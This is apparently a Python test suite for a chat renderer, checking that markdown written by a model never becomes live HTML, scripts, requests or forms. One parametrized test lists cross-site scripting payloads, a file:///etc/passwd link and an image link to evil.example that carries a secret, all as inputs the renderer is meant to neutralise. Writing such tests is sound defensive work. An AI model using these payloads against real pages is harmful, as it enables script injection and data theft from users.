"""Markdown on the page: a model's text never becomes a script, a request or a form."""

import random
import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from made_markdown import MARKDOWN, split

from edgeinfer.chat import markdown
from edgeinfer.chat.markdown import parser as parse_markdown
from edgeinfer.server.web import render
from edgeinfer.server.web.render import GrowingHtml, blocks


def shown_in_pieces(pieces):
    """Yield the HTML blocks of a page after each piece of text."""
    growing, markup = GrowingHtml(), []
    for piece in pieces:
        first = growing.add(piece)
        markup[first:] = growing.blocks[first:]
        yield markup


TAGS = """p br h1 h2 h3 h4 h5 h6 em strong s code pre div span button a ul ol li blockquote hr
table thead tbody tr th td""".split()


class Auditor(HTMLParser):
    """Collects tags, attributes and links that the page must not contain."""

    def __init__(self):
        super().__init__()
        self.forbidden = []

    def handle_starttag(self, tag, attrs):
        allowed = {"class", "type", "tabindex", "target", "rel", "href", "start"}
        self.forbidden += [tag] if tag not in TAGS else []
        self.forbidden += [pair for pair in attrs if pair[0] not in allowed]
        links = [value for name, value in attrs if name == "href"]
        self.forbidden += [url for url in links if not re.match(r"(https?://|mailto:)\S", url, re.I)]


@settings(max_examples=500, deadline=None)
@example("[a]()", random.Random(0))
@example("[a](<>)", random.Random(0))
@given(MARKDOWN, st.randoms(use_true_random=False))
def test_any_text_in_any_pieces_renders_alike_and_safely(text, dice):
    whole = list(blocks(text))
    markup = []
    for markup in shown_in_pieces(split(text, dice)):
        auditor = Auditor()
        auditor.feed("".join(markup))
        assert auditor.forbidden == []
    assert markup == whole


@pytest.mark.parametrize("text", ["", " ", "\n", "\n\n  \n", "\t", "\r\n", "\x1b"])
def test_blank_text_has_no_blocks_and_text_after_it_has(text):
    growing = GrowingHtml(text)
    assert growing.blocks == []
    assert growing.add("\na") == 0
    assert growing.blocks == ["<p>a</p>\n"]


def test_every_other_text_shows_something():
    assert "http://a.b" in "".join(blocks("[r]: http://a.b"))


def test_a_defect_shows_the_text_as_it_is_and_is_reported(monkeypatch):
    reported = []
    growing = GrowingHtml("# a\n\nb", reported.append)
    monkeypatch.setattr(render, "_renderer", lambda: 1 / 0)
    assert growing.add(" <i>") == 0
    monkeypatch.undo()
    assert growing.add("c\n\nd") == 0
    assert growing.blocks == ['<p class="plain"># a\n\nb &lt;i&gt;c\n\nd</p>']
    assert [type(error) for error in reported] == [ZeroDivisionError]


def test_lines_formulas_addresses_tasks_and_columns():
    letter = "".join(blocks("Dear Ann,\nthe heater is broken.\nBob"))
    assert letter.count("<br") == 2
    formulas = r"So \(x_1 * y_1\), $$a_b_c$$, $p_q_r$:" + "\n\\[\n- b\n\\begin{x}\n= c\n\\]\ntext"
    markup = "".join(blocks(formulas))
    for source in (r"\(x_1 * y_1\)", "$$a_b_c$$", "$p_q_r$", "\\[\n- b\n\\begin{x}\n= c\n\\]"):
        assert f'class="plain">{source}</' in markup
    assert "$5 and $6" in "".join(blocks("It costs $5 and $6."))
    assert 'href="https://a.b/c"' in "".join(blocks("See https://a.b/c."))
    assert "☐ buy" in (tasks := "".join(blocks("- [ ] buy\n- [x] pay")))
    assert "☑ pay" in tasks
    table = "".join(blocks("| a | b |\n|---|---:|\n| x | 1200.00 |"))
    assert '<td class="right">1200.00</td>' in table
    assert "style=" not in table


def test_a_code_block_in_small_pieces_is_not_parsed_again(monkeypatch):
    growing, calls = GrowingHtml("```py\n"), []

    def count():
        calls.append(1)
        return parse_markdown()

    monkeypatch.setattr(markdown, "parser", count)
    code = "".join(f"value_{n} = {n}\n" for n in range(3000))
    for offset in range(0, len(code), 5):
        growing.add(code[offset : offset + 5])
    growing.add("```\n\nAfter it.")
    assert growing.blocks == list(blocks(f"```py\n{code}```\n\nAfter it."))
    assert len(calls) <= 10


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example) [w](/infer?prompt=x)",
        "![x](https://evil.example/?secret=1)",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        '```"><script>alert(1)</script>\nx\n```',
        '[x](https://e.example "\\" onmouseover=alert(1)")',
        "[![a](https://evil.example/a.png)](https://evil.example)",
        "`<script>`",
        "<iframe src=https://evil.example></iframe><form action=https://evil.example>",
        "<style>@import 'https://evil.example'</style>",
    ],
)
def test_hostile_markdown_becomes_text(hostile):
    markup = "".join(blocks(hostile))
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z]+)", markup))
    assert tags <= {"p", "br", "a", "code", "pre", "div", "span", "button"}
    for attribute in re.findall(r"<a ([^>]*)>", markup):
        assert attribute.startswith('href="https://')
        assert attribute.endswith('target="_blank" rel="noopener noreferrer nofollow"')
    assert not re.findall(r"<[^>]*\son\w+=", markup)
    assert "src=" not in re.sub("&lt;.*", "", markup)


def test_what_turns_text_around_is_removed():
    assert "\u202e" not in "".join(blocks("abc\u202edef"))


def test_a_long_text_without_a_break_is_shown_as_it_is(repeats):
    sizes = {"x": 1_000_000, "[": 200_000, "*a ": 300_000, "y": 500_000}
    for piece, number in sizes.items():
        text = "```\n" * (piece == "y") + piece * repeats(number)
        markup = "".join(GrowingHtml(text).blocks)
        assert len(re.sub("<[^>]*>", "", markup)) > len(text) * 0.6
